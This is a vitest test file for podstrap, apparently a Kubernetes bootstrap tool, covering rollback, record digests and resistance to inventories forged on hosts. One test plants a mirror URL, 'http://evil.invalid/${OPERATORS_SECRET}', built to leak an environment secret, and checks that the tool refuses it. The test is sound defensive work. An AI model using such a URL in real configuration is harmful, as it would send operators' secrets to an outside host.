import {
  chownSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { screen } from '../cli/screen.js';
import { writtenFiles } from './fingerprint.js';
import { expectEnd, type Spec, startWorld, type World } from './world.js';

const memory = '/var/lib/podstrap';

/** What a host remembers at a path, as a root of that host could have it. */
const at = (world: World, host: string, path = '') => join(world.site.host(host).root, memory, path);

const runsOf = (world: World, host: string): readonly string[] =>
  readdirSync(at(world, host, 'generations')).sort();

const generations = (world: World) => join(world.state, 'generations');

/** Every file below a folder, by path. */
function filesBelow(folder: string): readonly string[] {
  if (!existsSync(folder)) return [];
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name));
}

const hold = (folder: string, text: string): readonly string[] =>
  filesBelow(folder).filter((file) => readFileSync(file, 'utf8').includes(text));

interface Record {
  readonly sources: { path: string; text: string }[];
}

/** Changes what a control plane says of a run. */
function forge(
  world: World,
  host: string,
  run: string,
  change: (inventory: { environment: string[]; spec: Spec }) => void,
): void {
  const file = at(world, host, `generations/${run}/record.json`);
  const record = JSON.parse(readFileSync(file, 'utf8')) as Record;
  const inventory = JSON.parse(record.sources[0]!.text);
  change(inventory);
  record.sources[0]!.text = JSON.stringify(inventory);
  writeFileSync(file, JSON.stringify(record));
}

const digestIn = (text: string): string => /--accept-record ([0-9a-f]{64})/.exec(text)![1]!;

const nobodys = '0'.repeat(64);

describe('one control plane and a worker', () => {
  let world: World;
  let first: string;
  let second: string;
  const secret = 'geheim';
  beforeAll(async () => {
    world = await startWorld(1, 1, {
      spec: {
        revisionHistoryLimit: 30,
        timeouts: { watchAfterChange: '1s', controlPlaneComponentHealthCheck: '2m' },
        proxy: { httpProxy: `http://me:${secret}@proxy.invalid:3128`, noProxy: '127.0.0.0/8,10.0.0.0/8' },
      },
    });
    expectEnd(await world.up(), 0);
    await world.edit((spec) => {
      spec.kubelet = { config: { maxPods: 77 } };
    });
    await world.converge();
    [first, second] = runsOf(world, 'cp-1') as [string, string];
  });
  afterAll(() => world.close());

  /** The operator's own memory of runs is away meanwhile. */
  async function forgetting(work: () => Promise<void>): Promise<void> {
    const aside = join(world.directory, 'aside');
    renameSync(generations(world), aside);
    try {
      await work();
    } finally {
      rmSync(generations(world), { recursive: true, force: true });
      renameSync(aside, generations(world));
    }
  }

  it('hosts remember no secret of the inventory and no key; workers no inventory at all', () => {
    for (const host of ['cp-1', 'w-1']) {
      expect(hold(at(world, host), secret)).toEqual([]);
      expect(hold(at(world, host), 'PRIVATE KEY')).toEqual([]);
      expect(filesBelow(at(world, host, 'store'))).toEqual([]);
    }
    expect(filesBelow(at(world, 'w-1', 'generations')).map((file) => file.split('/').at(-1))).toEqual([
      'generation.json',
      'generation.json',
    ]);
    expect(hold(generations(world), secret)).toHaveLength(2);
  });

  it('what the operator’s machine has forgotten takes a question or its digest; then secrets are those of now', () =>
    forgetting(async () => {
      const after = await writtenFiles(world.site);
      const asked = await world.podstrap(['rollback', '--yes']);
      expectEnd(
        asked,
        64,
        `this machine does not have the inventory of run ${first}`,
        'cp-1 (1 of 1 control plane)',
        '"maxPods": 77',
      );
      const digest = digestIn(asked.stderr);
      expectEnd(await world.podstrap(['rollback', '--yes', '--accept-record', nobodys]), 64);
      expectEnd(await world.podstrap(['rollback', '--accept-record', 'abc']), 64, '64 hexadecimal digits');
      expect(await writtenFiles(world.site)).toEqual(after);
      expectEnd(
        await world.podstrap(['rollback', '--yes', '--accept-record', digest]),
        0,
        'shows what the inventory would bring back',
      );
      await world.converge();
      expect(await writtenFiles(world.site)).toEqual(after);
    }));

  it('its digest is what `history show` tells where the operator’s machine remembers it', async () => {
    const told = await world.podstrap(['history', 'show', first]);
    expectEnd(told, 0, /Its record, for a machine that has lost it\n {2}--accept-record [0-9a-f]{64}/);
    const { record } = JSON.parse((await world.podstrap(['history', 'show', first, '-o', 'json'])).stdout);
    expect(digestIn(told.stdout)).toBe(record);
    await forgetting(async () => {
      expect((await world.podstrap(['history', 'show', first])).stdout).not.toContain('--accept-record');
      const after = await writtenFiles(world.site);
      expectEnd(await world.podstrap(['rollback', first, '--yes', '--accept-record', record]), 0);
      await world.converge();
      expect(await writtenFiles(world.site)).toEqual(after);
    });
  });

  it('is asked for on a terminal: it is shown, no and Ctrl-C change nothing, yes goes on', () =>
    forgetting(async () => {
      const after = await writtenFiles(world.site);
      const ask = async () => {
        const seen = await screen(['rollback', first, '-f', world.file], {
          directory: world.directory,
          columns: 160,
          rows: 50,
          environment: { NO_COLOR: '1' },
        });
        await seen.shows('Is that right, and may this machine remember it?');
        expect((await seen.all()).join('\n')).toContain('"maxPods": 77');
        return seen;
      };
      const refused = await ask();
      await refused.type('no');
      expect(await refused.ended()).not.toBe(0);
      const stopped = await ask();
      await stopped.press('C-c');
      expect(await stopped.ended()).toBe(130);
      expect(await writtenFiles(world.site)).toEqual(after);
      const accepted = await ask();
      await accepted.type('yes');
      // Then the plan itself is asked about.
      await accepted.shows(/Make these \d+ changes on cp-1, w-1 now\?/);
      await accepted.type('yes');
      expect(await accepted.ended()).toBe(0);
      await world.converge();
      expect(await writtenFiles(world.site)).toEqual(after);
    }));

  it('secrets that nobody has any more are named', () =>
    forgetting(async () => {
      const back = await world.edit((spec) => {
        spec.proxy.httpProxy = 'http://other.invalid:3128';
      });
      const asked = await world.podstrap(['rollback', first, '--yes']);
      expectEnd(
        await world.podstrap(['rollback', first, '--yes', '--accept-record', digestIn(asked.stderr)]),
        1,
        'no host keeps the secrets of an inventory',
        'spec.proxy.httpProxy',
      );
      await back();
    }));

  it('a host that forges an inventory moves nobody: no variable is read, nothing is fetched', () =>
    forgetting(async () => {
      const file = at(world, 'cp-1', `generations/${first}/record.json`);
      const before = readFileSync(file);
      const after = await writtenFiles(world.site);
      forge(world, 'cp-1', first, (inventory) => {
        inventory.environment = ['OPERATORS_SECRET'];
        inventory.spec.artifacts = {
          mirrors: { 'https://dl.k8s.io': `http://evil.invalid/\${OPERATORS_SECRET}` },
        };
        inventory.spec.dns = { corefile: 'evil' };
      });
      const environment = { OPERATORS_SECRET: 'operators-secret' };
      const asked = await world.podstrap(['rollback', first, '--yes'], { environment });
      expectEnd(asked, 64, `\${OPERATORS_SECRET}`);
      expect(`${asked.stdout}${asked.stderr}`).not.toContain('operators-secret');
      // Even one who says yes to it gives nothing away: variables, and where things come from, are those of now.
      const accepted = await world.podstrap(
        ['rollback', first, '--yes', '--accept-record', digestIn(asked.stderr)],
        {
          environment,
        },
      );
      expectEnd(accepted, 1, 'that your present one does not name: OPERATORS_SECRET');
      expect(await writtenFiles(world.site)).toEqual(after);
      writeFileSync(file, before);
    }));

  it('what the operator’s machine remembers counts, whatever a host says', async () => {
    const after = await writtenFiles(world.site);
    const file = at(world, 'cp-1', `generations/${first}/record.json`);
    const before = readFileSync(file);
    forge(world, 'cp-1', first, ({ spec }) => {
      spec.dns = { corefile: 'evil' };
    });
    expectEnd(
      await world.podstrap(['rollback', first, '--yes']),
      0,
      'shows what the inventory would bring back',
    );
    writeFileSync(file, before);
    await world.converge();
    expect(await writtenFiles(world.site)).toEqual(after);
  });

  it('certificates that were renewed since are no reason to refuse', async () => {
    expectEnd(await world.podstrap(['certs', 'renew', '--yes']), 0);
    for (const host of ['cp-1', 'w-1']) expect(hold(at(world, host), 'PRIVATE KEY')).toEqual([]);
    expectEnd(
      await world.podstrap(['rollback', first, '--yes']),
      0,
      'shows what the inventory would bring back',
    );
    await world.converge();
  });

  it('what an earlier podstrap has left on hosts goes with the next up, and plan says so', async () => {
    const after = await writtenFiles(world.site);
    const own = JSON.parse(readFileSync(join(generations(world), `${second}.json`), 'utf8')) as Record;
    for (const host of ['cp-1', 'w-1']) {
      const folder = at(world, host, `generations/${second}`);
      rmSync(join(folder, 'record.json'), { force: true });
      writeFileSync(join(folder, 'sources.json'), JSON.stringify(own.sources));
      const store = at(world, host, 'store');
      mkdirSync(store);
      writeFileSync(join(store, nobodys), '-----BEGIN PRIVATE KEY-----');
      // Practice hosts may run as somebody else.
      const { uid, gid } = statSync(folder);
      chownSync(store, uid, gid);
    }
    await forgetting(async () => {
      const words = 'take secrets out of /var/lib/podstrap/generations and /var/lib/podstrap/store';
      expectEnd(await world.podstrap(['plan', '--detailed-exitcode']), 2, words);
      const early = await world.podstrap(['rollback', second, '--yes']);
      expectEnd(early, 64, `this machine does not have the inventory of run ${second}`);
      expectEnd(await world.up(), 0, '2 changes');
      expectEnd(await world.podstrap(['plan', '--detailed-exitcode']), 0);
      for (const host of ['cp-1', 'w-1']) {
        expect(hold(at(world, host), secret)).toEqual([]);
        expect(hold(at(world, host), 'PRIVATE KEY')).toEqual([]);
      }
      expect(existsSync(at(world, 'w-1', `generations/${second}/record.json`))).toBe(false);
      expect(await writtenFiles(world.site)).toEqual(after);
      // Without its secrets it is the record that it was with them.
      const accept = ['--accept-record', digestIn(early.stderr)];
      expectEnd(await world.podstrap(['rollback', second, '--yes', ...accept]), 0);
    });
    await world.converge();
  });
});

describe('three control planes', () => {
  let world: World;
  let first: string;
  beforeAll(async () => {
    world = await startWorld(3, 0, {
      spec: { timeouts: { watchAfterChange: '1s', controlPlaneComponentHealthCheck: '2m' } },
    });
    expectEnd(await world.up(), 0);
    first = runsOf(world, 'cp-1')[0]!;
  });
  afterAll(() => world.close());

  const record = () => join(world.state, 'cluster.json');

  it('a lost record of the cluster is what most control planes say, shown, and accepted', async () => {
    const before = JSON.parse(readFileSync(record(), 'utf8'));
    rmSync(record());
    const file = at(world, 'cp-1', 'cluster.json');
    const honest = readFileSync(file, 'utf8');
    writeFileSync(file, honest.replace(before.endpoint, 'evil.invalid:6443'));
    const asked = await world.up();
    expectEnd(asked, 64, 'cp-2, cp-3 (2 of 3 control planes)', `"endpoint": "${before.endpoint}"`);
    expect(`${asked.stdout}${asked.stderr}`).not.toContain('evil.invalid');
    expect(existsSync(record())).toBe(false);
    // Who only looks is told.
    expectEnd(await world.podstrap(['plan']), 0, 'this machine does not have the cluster’s record');
    expect(existsSync(record())).toBe(false);
    expectEnd(await world.podstrap(['up', '--yes', '--accept-record', digestIn(asked.stderr)]), 0);
    const { versions: _v, hosts: _h, ...settled } = before;
    expect(JSON.parse(readFileSync(record(), 'utf8'))).toMatchObject(settled);
    expect(readFileSync(file, 'utf8')).toBe(honest);
    expectEnd(await world.podstrap(['plan', '--detailed-exitcode']), 0);
  });

  it('control planes that are divided are not believed', async () => {
    const before = readFileSync(record(), 'utf8');
    rmSync(record());
    const files = ['cp-1', 'cp-2'].map((host) => at(world, host, 'cluster.json'));
    const honest = readFileSync(files[0]!, 'utf8');
    files.forEach((file, index) => {
      writeFileSync(file, honest.replace('6443', String(6444 + index)));
    });
    expectEnd(
      await world.up(),
      1,
      'fewer than half of the control planes say the same',
      '--accept-record DIGEST',
    );
    for (const file of files) writeFileSync(file, honest);
    writeFileSync(record(), before, { mode: 0o600 });
    await world.converge();
  });

  it('an earlier state is what most control planes say, whichever is asked first', async () => {
    const before = await writtenFiles(world.site);
    await world.edit((spec) => {
      spec.scheduler = { extraArgs: [{ name: 'v', value: '3' }] };
    });
    await world.converge();
    rmSync(generations(world), { recursive: true });
    const file = at(world, 'cp-1', `generations/${first}/record.json`);
    const honest = readFileSync(file);
    forge(world, 'cp-1', first, ({ spec }) => {
      spec.dns = { corefile: 'evil' };
    });
    expectEnd(await world.podstrap(['rollback', '--yes']), 0, 'Done');
    writeFileSync(file, honest);
    expect(await writtenFiles(world.site)).toEqual(before);
  });

  it('of one that only a single control plane still has, nobody can tell', async () => {
    rmSync(generations(world), { recursive: true });
    for (const host of ['cp-2', 'cp-3']) rmSync(at(world, host, `generations/${first}/record.json`));
    expectEnd(
      await world.podstrap(['rollback', first, '--yes']),
      1,
      'fewer than half of the control planes say the same',
      'cp-2: says nothing',
    );
  });
});
